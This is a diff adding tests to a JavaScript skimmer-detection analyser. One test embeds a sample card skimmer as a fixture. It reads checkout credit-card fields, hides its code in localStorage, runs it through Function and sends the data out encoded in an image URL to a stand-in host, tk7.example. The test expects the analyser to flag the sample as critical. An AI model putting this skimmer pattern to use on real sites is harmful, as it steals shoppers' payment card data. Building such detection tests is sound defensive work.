@@ -125,3 +125,21 @@ describe('a document-wide field handler inside code that only exists after decod
     expect(skim?.childSha256).toBeTruthy();
   });
 });
+
+describe('code kept in localStorage and run from there', () => {
+  test('the definition that resolves (the body written there) is analysed as a child', () => {
+    const body = ["var o = {}; document.querySelectorAll('input[name^=\\'checkout[credit_card]\\']').forEach(function (e) { o[e.name] = e.value; });", "document.body.style.backgroundImage = 'url(https://tk7.example/u/' + btoa(JSON.stringify(o)) + '.png)';"];
+    const code = `(function (w) { var body = ${JSON.stringify(body)}.join('\\n'), code; if (!w.localStorage.getItem('_s')) w.localStorage.setItem('_s', body); try { code = w.localStorage.getItem('_s'); } catch (e) { code = body; } var run = w['Func' + 'tion']; run(code)(); })(window);`;
+    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
+    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
+    expect(skim?.severity).toBe('critical');
+    expect(skim?.childSha256).toBeTruthy();
+  });
+});
+describe('an accumulator compiled by Function (a template engine)', () => {
+  test('is not run from its first definition alone', () => {
+    const code = "function tpl(text) { var source = \"__p+='\"; text.replace(/<%=([\\s\\S]+?)%>/g, function (m, e) { source += \"'+(\" + e + \")+'\"; }); source += \"';\\n\"; source = \"var __p='';\" + source + \"return __p;\"; return new Function('obj', source); }";
+    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
+    expect(r.findings.filter((f) => f.ruleId === 'decoded-code-eval' && /analysed as child/.test(f.message))).toEqual([]);
+  });
+});
